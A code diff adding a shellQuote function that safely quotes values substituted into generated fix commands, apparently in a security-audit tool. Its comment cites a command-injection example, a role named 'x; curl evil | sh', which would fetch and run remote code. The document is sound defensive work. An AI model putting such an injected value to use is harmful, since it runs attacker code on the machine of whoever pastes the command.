@@ -223,10 +223,17 @@ function makeFinding(
 function renderCommand(parts: Array<string | CompiledExpression> | undefined, context: Record<string, unknown>) {
   if (!parts) return undefined;
   try {
-    return render(parts, context);
+    return parts.map((p) => (typeof p === 'string' ? p : shellQuote(display(fromCel(p(context)))))).join('');
   } catch {
     return undefined;
   }
+}
+
+/** A value substituted into a fix command, as one shell word: names come from the estate, and a
+ * role called `x; curl evil | sh` must not become a second command when the fix is pasted. */
+export function shellQuote(value: string): string {
+  if (/^[A-Za-z0-9_@%+=:,./-]+$/.test(value)) return value;
+  return `'${value.replace(/'/g, `'\\''`)}'`;
 }
 
 function noteError(errors: Map<string, RuleError>, rule: CompiledRule, identityId: string, err: unknown): void {
